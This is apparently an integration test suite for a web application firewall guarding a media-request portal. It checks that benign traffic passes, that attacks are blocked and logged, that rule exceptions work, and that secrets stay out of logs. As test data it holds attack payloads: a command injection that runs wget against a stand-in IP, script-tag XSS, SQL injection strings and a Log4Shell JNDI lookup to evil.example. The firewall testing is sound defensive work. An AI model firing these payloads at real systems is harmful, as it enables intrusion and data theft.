import { readFileSync } from 'node:fs';
import https from 'node:https';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WafEntry } from '../../../src/waf/plan/waf-log.ts';
import { docker } from '../../support/cli.ts';
import { rulesMirror } from '../../support/waf/mirror.ts';
import { type Workspace, workspace } from '../../support/workspace.ts';
import { type Asked, bodyOf } from './benign/request.ts';
import { ADDRESSES, ATTACKS, COOKIES, FILE_NAMES, TITLES } from './waf-cases.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

let stack: Workspace;

interface Answer {
  status: number;
  text: string;
  id: string;
}

function send(request: Omit<Asked, 'name'>): Promise<Answer> {
  const content = bodyOf(request as Asked);
  return new Promise((resolve, reject) => {
    const call = https.request(
      {
        host: 'localhost',
        family: 4,
        port: stack.httpsPort,
        path: request.path ?? '/',
        method: request.method ?? 'GET',
        ca: readFileSync(path.join(stack.state, 'ca', 'root.crt')),
        agent: false,
        headers: {
          'user-agent': BROWSER,
          accept: 'application/json',
          ...(request.method && { origin: `https://localhost:${stack.httpsPort}` }),
          ...(content?.type && { 'content-type': content.type }),
          ...(content && !request.headers?.['transfer-encoding'] && { 'content-length': Buffer.byteLength(content.body) }),
          ...request.headers,
        },
      },
      (response) => {
        let text = '';
        response.on('data', (chunk: Buffer) => {
          text += chunk;
        });
        response.on('end', () => resolve({ status: response.statusCode ?? 0, text, id: String(response.headers['x-request-id']) }));
      },
    );
    call.on('error', reject);
    call.end(content?.body);
  });
}

/** The edge's own answer; the portal's answers have another form. */
const isRefusal = ({ status, text }: Answer): boolean => (status === 403 || status === 400) && text.includes('"code": "blocked"');

async function refusedOf(requests: readonly (readonly [string, Omit<Asked, 'name'>])[]): Promise<string[]> {
  const refused: string[] = [];
  for (const [name, request] of requests) {
    const answer = await send(request);
    if (isRefusal(answer)) refused.push(`${name} (${answer.status} ${answer.id})`);
  }
  return refused;
}

async function log(): Promise<WafEntry[]> {
  // The access log is written in parts.
  await sleep(1500);
  return (JSON.parse((await stack.run(['waf', 'log', '--since', '10m', '--json'])).stdout) as { entries: WafEntry[] }).entries;
}

const configure = (waf: object) => stack.configure({ profile: 'dev-compose', edge: { rateLimit: false, login: false, waf } });

beforeAll(async () => {
  stack = await workspace('waf');
  configure({ mode: 'block' });
  const up = await stack.run(['up']);
  expect(up.stderr).not.toMatch(/Error/);
});

afterAll(() => stack?.destroy());

describe('in front of the portal, at paranoia 1', () => {
  it('blocks nothing that the portal’s page and its visitors send', async () => {
    const benign = [
      ...TITLES.flatMap((title) => [
        [`request ${title}`, { method: 'POST', path: '/api/requests', json: { title, kind: 'movie', note: title } }] as const,
        [`search ${title}`, { path: `/api/search?query=${encodeURIComponent(title)}` }] as const,
        [`name ${title}`, { method: 'POST', path: '/api/session', json: { name: title } }] as const,
      ]),
      ...FILE_NAMES.map(
        (file) => [`file ${file}`, { method: 'POST', path: '/api/uploads', parts: [{ field: 'file', file, text: 'x' }] }] as const,
      ),
      ...COOKIES.map((cookie) => [`cookie ${cookie}`, { headers: { cookie } }] as const),
      ...ADDRESSES.map((address) => [address, { path: address }] as const),
      ['change', { method: 'PATCH', path: '/api/requests/1', json: { status: 'approved' } }] as const,
      ['delete', { method: 'DELETE', path: '/api/requests/1' }] as const,
    ];
    expect(await refusedOf(benign)).toEqual([]);
    expect((await log()).filter((entry) => entry.blocked)).toEqual([]);
  });

  it('blocks every attack, and tells which rule did', async () => {
    const refused = await refusedOf(ATTACKS.map((attack) => [attack.name, attack]));
    const missed = ATTACKS.filter(({ name }) => !refused.some((entry) => entry.startsWith(`${name} (`)));
    expect(missed).toEqual([]);
    expect(ATTACKS.length).toBeGreaterThanOrEqual(50);
    const entries = await log();
    const known = new Set(entries.filter((entry) => entry.blocked && entry.matches.length > 0).map((entry) => entry.requestId));
    expect(refused.filter((entry) => !known.has(/(\S+)\)$/.exec(entry)?.[1] ?? ''))).toEqual([]);
  });

  it('blocks in the portal’s free text what is no text, and everything beside it', async () => {
    const attack = '; cat /tmp/x & wget http://192.0.2.1/x';
    const post = (json: object) => send({ method: 'POST', path: '/api/requests', json });
    expect(isRefusal(await post({ title: '<script>alert(1)</script>', kind: 'movie' }))).toBe(true);
    expect(isRefusal(await post({ title: "x' UNION SELECT password FROM users--", kind: 'movie' }))).toBe(true);
    expect(isRefusal(await post({ title: 'x', kind: attack }))).toBe(true);
    expect(isRefusal(await post({ title: 'x', kind: 'movie', other: attack }))).toBe(true);
    expect(isRefusal(await send({ path: `/api/requests?other=${encodeURIComponent(attack)}` }))).toBe(true);
    expect(isRefusal(await send({ method: 'POST', path: '/api/session', json: { title: attack } }))).toBe(true);
    expect(isRefusal(await send({ method: 'POST', path: '/api/requestsother', json: { title: attack } }))).toBe(true);
  });

  it('lets the portal’s own 403 pass, and quotes the number of the request on its own', async () => {
    const own = await send({ method: 'POST', path: '/api/session', json: { name: 'x' }, headers: { 'sec-fetch-site': 'cross-site' } });
    expect(own).toMatchObject({ status: 403, text: expect.stringContaining('cross-site') });
    const page = await send({
      path: '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      headers: { accept: 'text/html', 'x-request-id': 'quote-me-12345' },
    });
    expect(page).toMatchObject({ status: 403, text: expect.stringMatching(/<title>.*blocked.*quote-me-12345/s) });
    expect((await log()).find((entry) => entry.requestId === 'quote-me-12345')).toMatchObject({ blocked: true, path: '/', method: 'GET' });
  });

  it('writes no cookie, header, query or body that no rule is about', async () => {
    const secret = 'hunter2hunter2';
    const headers = { authorization: `Bearer ${secret}`, cookie: `sid=${secret}`, referer: `https://x/${secret}` };
    await send({ method: 'POST', path: '/api/session', headers, json: { password: secret, name: '<script>alert(1)</script>' } });
    await send({ path: `/api/status?token=${secret}`, headers });
    await sleep(1500);
    expect((await stack.run(['logs', 'edge'])).stdout).not.toContain(secret);
  });
});

describe('request bodies', () => {
  const memory = async () => {
    const { stdout } = await docker(['exec', `${stack.project}-edge-1`, 'sh', '-c', 'du -sk /tmp /var/cache/edge/bodies | cut -f1']);
    return stdout.split('\n').filter(Boolean).map(Number);
  };

  it('stream past the WAF where they are uploads', async () => {
    const text = 'x'.repeat(40 * 1024 ** 2);
    const before = await memory();
    const stored = send({ method: 'POST', path: '/api/uploads', parts: [{ field: 'file', file: 'large.bin', text }] });
    const during: number[][] = [];
    for (let i = 0; i < 3; i++) during.push(await memory());
    expect((await stored).status).toBe(201);
    for (const sizes of during) expect(sizes.map((kib, i) => kib - (before[i] ?? 0) < 4096)).toEqual([true, true]);
  });

  it('get the page 413 above the limit, with or without a length, also where they would be attacks', async () => {
    const form = `a=${'x'.repeat(11 * 1024 ** 2)}&b=<script>`;
    expect(await send({ method: 'POST', path: '/api/x', form })).toMatchObject({ status: 413, text: expect.stringContaining('too-large') });
    const chunked = await send({ method: 'POST', path: '/api/x', form, headers: { 'transfer-encoding': 'chunked' } });
    expect(chunked.status).toBe(413);
  });
});

describe('settings', () => {
  it('`waf allow` leaves one rule out for one field, and nothing else', async () => {
    const field = (name: string) => send({ path: `/api/notes?${name}=${encodeURIComponent("1' OR '1'='1")}` });
    expect(isRefusal(await field('text'))).toBe(true);
    const allowed = await stack.run(['waf', 'allow', '942100', '--path', '/api/notes', '--parameter', 'text']);
    expect(allowed.status).toBe(0);
    await sleep(500);
    expect(isRefusal(await field('text'))).toBe(false);
    expect(isRefusal(await field('other'))).toBe(true);
    expect(isRefusal(await send({ path: `/api/other?text=${encodeURIComponent("1' OR '1'='1")}` }))).toBe(true);
    expect(isRefusal(await send({ path: '/api/notes?text=%3Cscript%3Ealert(1)%3C/script%3E' }))).toBe(true);
    const again = await stack.run(['waf', 'allow', '942100', '--path', '/api/notes', '--parameter', 'text', '--json']);
    expect(JSON.parse(again.stdout)).toMatchObject({ result: 'unchanged' });
  });

  it.each(['949110', '942999', '12', 'OWASP_CRS'])('`waf allow` refuses rule %s and changes nothing', async (rule) => {
    const before = readFileSync(path.join(stack.dir, 'medianest.yml'), 'utf8');
    const refused = await stack.run(['waf', 'allow', rule, '--path', '/api/notes']);
    expect(refused.status).toBe(2);
    expect(readFileSync(path.join(stack.dir, 'medianest.yml'), 'utf8')).toBe(before);
  });

  it('`detect` lets everything pass, and writes it down', async () => {
    configure({ mode: 'detect' });
    expect((await stack.run(['up'])).status).toBe(0);
    await sleep(500);
    const answer = await send({ path: '/?q=%3Cscript%3Ealert(1)%3C/script%3E', headers: { 'x-request-id': 'only-detected' } });
    expect(answer.status).toBe(200);
    expect((await log()).find((entry) => entry.requestId === 'only-detected')).toMatchObject({
      blocked: false,
      matches: expect.arrayContaining([expect.objectContaining({ rule: 941100, part: 'ARGS:q' })]),
    });
    const lines = (await stack.run(['logs', 'edge'])).stdout;
    expect(lines).not.toContain('<!doctype html>');
  });

  it('`up` right after `waf rules fetch` has the WAF read the release, and goes back where Debian’s are chosen', async () => {
    const mirror = await rulesMirror(stack.dir);
    const rules = async (): Promise<string> => {
      const { checks } = JSON.parse((await stack.run(['health', '--json'])).stdout) as { checks: { id: string; message: string }[] };
      return checks.find(({ id }) => id === 'waf-rules')?.message ?? '';
    };
    try {
      configure({ mode: 'block', rules: { mirror: mirror.at('good.tar.gz') } });
      expect((await stack.run(['up'])).status).toBe(0);
      expect(await rules()).toMatch(
        /OWASP CRS 3\.3\.(?:9|[1-9]\d) \(Debian, \d+ (?:days|months) old\); 4\.28\.0 is newer: medianest waf rules fetch/,
      );
      expect((await stack.run(['waf', 'rules', 'fetch'], { env: mirror.env })).status).toBe(0);
      expect((await stack.run(['up'])).status).toBe(0);
      expect(JSON.parse((await stack.run(['waf', 'rules', '--json'])).stdout)).toMatchObject({ version: '4.28.0', from: 'as released' });
      const read = /OWASP CRS 4\.28\.0 \(as released, \d+ (?:days|months) old\)/;
      expect(await rules()).toMatch(read);
      expect((await stack.run(['status'])).stdout.replaceAll(/\s+/g, ' ')).toMatch(read);
      await sleep(500);
      const attack = await send({ path: '/', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } });
      expect(isRefusal(attack)).toBe(true);
      expect((await log()).find(({ requestId }) => requestId === attack.id)?.matches).toEqual(
        expect.arrayContaining([expect.objectContaining({ rule: 944_150 })]),
      );
      expect(isRefusal(await send({ path: '/' }))).toBe(false);
      configure({ mode: 'block', rules: { source: 'debian' } });
      expect((await stack.run(['up'])).status).toBe(0);
      expect(JSON.parse((await stack.run(['waf', 'rules', '--json'])).stdout)).toMatchObject({ from: 'Debian' });
    } finally {
      mirror.close();
    }
  });
});
